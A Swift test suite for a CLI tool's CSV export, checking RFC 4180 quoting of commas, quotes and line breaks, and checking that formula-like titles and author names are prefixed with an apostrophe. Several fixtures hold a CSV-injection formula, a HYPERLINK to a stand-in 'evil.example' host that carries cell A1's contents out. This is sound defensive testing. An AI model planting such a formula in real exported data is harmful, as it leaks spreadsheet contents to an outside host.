import Foundation
import Testing

/// Every `--format csv`, read back by Python's csv module (RFC 4180 quoting)
/// rather than by the code that wrote it, on values that attack the format:
/// commas, quotes, line breaks, and text a spreadsheet would run as a formula.
@Suite struct CSVOutputTests {
    /// The rows as Python's csv.reader reads them, strict about quoting; the
    /// text must be UTF-8 and end every row with CRLF.
    static func parse(_ csv: String) throws -> [[String]] {
        #expect(csv.hasSuffix("\r\n"))
        let script = """
            import csv, io, json, sys
            text = sys.stdin.buffer.read().decode("utf-8")
            print(json.dumps(list(csv.reader(io.StringIO(text, newline=""), strict=True))))
            """
        let output = try FixtureProcess.run("/usr/bin/python3", ["-c", script], in: nil, environment: [:], input: Data(csv.utf8))
        #expect(output.status == 0, "\(output.errorText)")
        let rows = try JSONDecoder().decode([[String]].self, from: output.stdout)
        #expect(Set(rows.map(\.count)).count == 1, "every row has the header's columns")
        return rows
    }

    static let formulaTitle = "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")"

    /// An improvement proposed on 2026-03-01 and trialled from 2026-03-10, when
    /// an experiment of teams a and b started too; a constraint not committed
    /// yet. The titles hold a formula, a quote, a comma, a line break and
    /// letters beyond ASCII.
    static func hostileRepository() throws -> GitFixture {
        let git = try GitFixture()
        try git.write("kaizen.yml", "version: 1\nteams: [a, b]\n")
        func improvement(_ status: String) -> String {
            "---\nkind: improvement\ntitle: '\(formulaTitle)'\nstatus: \(status)\norigin: a\nlevel: team\narea: flow\n---\n"
        }
        try git.write("improvements/formula.md", improvement("proposed"))
        try git.commit("Propose", at: GitDate(2026, 3, 1, 12, offsetMinutes: 0))
        try git.write("improvements/formula.md", improvement("trialling"))
        try git.write("experiments/quoted.md", """
            ---
            kind: experiment
            title: "Say \\"hi\\", then\\nwave"
            teams: [a, b]
            status: running
            ---
            """)
        try git.commit("Trial", at: GitDate(2026, 3, 10, 12, offsetMinutes: 0))
        try git.write("constraints/zoe.md", """
            ---
            kind: constraint
            title: Zoë's café queue
            status: open
            level: team
            observed:
              - {date: 2026-03-12, team: b, note: seen}
            ---
            """)
        return git
    }

    @Test func listIsOneRowPerRecordWithHowLongItHasHadItsStatus() throws {
        let git = try Self.hostileRepository()
        let result = try KaizenProcess.run(["list", "--format", "csv", "--today", "2026-03-20"], in: git.workTree)
        #expect(result.status == 0, "\(result.stderr)")
        let rows = try Self.parse(result.stdout)
        #expect(rows == [
            ["id", "kind", "status", "status_since", "days_in_status", "teams", "title", "path"],
            ["formula", "improvement", "trialling", "2026-03-10", "10", "a", "'" + Self.formulaTitle, "improvements/formula.md"],
            ["quoted", "experiment", "running", "2026-03-10", "10", "a b", "Say \"hi\", then\nwave", "experiments/quoted.md"],
            // Not committed: no day it got its status.
            ["zoe", "constraint", "open", "", "", "b", "Zoë's café queue", "constraints/zoe.md"],
        ])
        let plain = try KaizenProcess.run(["list", "--format", "csv", "--no-history", "--kind", "improvement"], in: git.workTree)
        #expect(try Self.parse(plain.stdout) == [
            ["id", "kind", "status", "status_since", "days_in_status", "teams", "title", "path"],
            ["formula", "improvement", "trialling", "", "", "a", "'" + Self.formulaTitle, "improvements/formula.md"],
        ])
    }

    /// On 2026-03-20: quoted (teams a and b) expired 5 days ago and has had no
    /// Observations entry since it started 47 days ago; soon (b) expires in 5
    /// days; formula (a's) is proven with no guide written. Each reason is a
    /// row under each team, most urgent first, as the text lists them.
    @Test func dueIsOneRowPerReasonPerTeam() throws {
        let folder = try FixtureFolder([
            "kaizen.yml": "version: 1\nteams: [a, b]\n",
            "improvements/formula.md": "---\nkind: improvement\ntitle: '\(Self.formulaTitle)'\nstatus: proven\norigin: a\nlevel: team\narea: flow\n---\n",
            "experiments/quoted.md": """
                ---
                kind: experiment
                title: "Say \\"hi\\", then\\nwave"
                teams: [a, b]
                status: running
                start: 2026-02-01
                review-by: 2026-03-15
                ---
                """,
            "experiments/soon.md": """
                ---
                kind: experiment
                title: Soon
                teams: [b]
                status: running
                start: 2026-03-10
                review-by: 2026-03-25
                ---

                ## Observations

                - 2026-03-18: on track
                """,
        ])
        let result = try KaizenProcess.run(["due", "--format", "csv", "--today", "2026-03-20"], in: folder.url)
        #expect(result.status == 0, "\(result.stderr)")
        let quoted = "Say \"hi\", then\nwave"
        let expired = "expired 5 days ago, on 2026-03-15: conclude it, or extend it with a reason"
        let unobserved = "no Observations entry for 47 days (none dated since it started on 2026-02-01): note what the signals show"
        #expect(try Self.parse(result.stdout) == [
            ["team", "id", "reason", "date", "days", "message", "title", "path"],
            ["a", "quoted", "expired", "2026-03-15", "5", expired, quoted, "experiments/quoted.md"],
            ["a", "quoted", "observations-due", "2026-02-01", "47", unobserved, quoted, "experiments/quoted.md"],
            ["a", "formula", "not-captured", "", "",
             "proven but not captured: write Summary, Context, Implementation guide, Adaptation notes", "'" + Self.formulaTitle,
             "improvements/formula.md"],
            ["b", "quoted", "expired", "2026-03-15", "5", expired, quoted, "experiments/quoted.md"],
            ["b", "quoted", "observations-due", "2026-02-01", "47", unobserved, quoted, "experiments/quoted.md"],
            ["b", "soon", "expires-soon", "2026-03-25", "5", "expires in 5 days, on 2026-03-25: plan its review", "Soon", "experiments/soon.md"],
        ])
        // Nothing is due for b before its experiments start: the header alone.
        let nothing = try KaizenProcess.run(["due", "--format", "csv", "--team", "b", "--today", "2026-01-01"], in: folder.url)
        #expect(try Self.parse(nothing.stdout) == [["team", "id", "reason", "date", "days", "message", "title", "path"]])
    }

    /// A title in history and an author that a spreadsheet would take for
    /// formulas get an apostrophe; a comma, a quote and a line break survive.
    @Test func timelineDefusesFormulasAndQuotes() throws {
        let git = try GitFixture()
        try git.write("kaizen.yml", "version: 1\n")
        try git.write("experiments/hostile.md", """
            ---
            kind: experiment
            title: '=HYPERLINK("http://evil.example/?"&A1, "click")'
            ---
            """)
        try git.commit("Add", by: GitPerson(name: "@ops, \"night\" shift", email: "ops@example.com"), at: GitDate(2026, 3, 1, 12, offsetMinutes: 0))
        try git.write("experiments/hostile.md", """
            ---
            kind: experiment
            title: "-1 day, \\"then\\"\\nwave"
            ---
            """)
        try git.commit("Retitle", by: .ana, at: GitDate(2026, 3, 2, 12, offsetMinutes: 0))
        try git.write("experiments/hostile.md", "---\nkind: experiment\ntitle: '-0.25'\n---\n")
        try git.commit("A number", by: .ana, at: GitDate(2026, 3, 3, 12, offsetMinutes: 0))
        let result = try KaizenProcess.run(["timeline", "--field", "title", "--format", "csv", "--no-cache"], in: git.workTree)
        #expect(result.status == 0, "\(result.stderr)")
        let rows = try Self.parse(result.stdout)
        let columns = try #require(rows.first)
        func column(_ name: String) -> [String] {
            let index = columns.firstIndex(of: name)!
            return rows.dropFirst().map { $0[index] }
        }
        #expect(column("author_name") == ["'@ops, \"night\" shift", "Ana Lima", "Ana Lima"])
        #expect(column("from") == ["", "'=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "'-1 day, \"then\"\nwave"])
        // A plain number stays a number.
        #expect(column("to") == ["'=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "'-1 day, \"then\"\nwave", "-0.25"])
    }
}
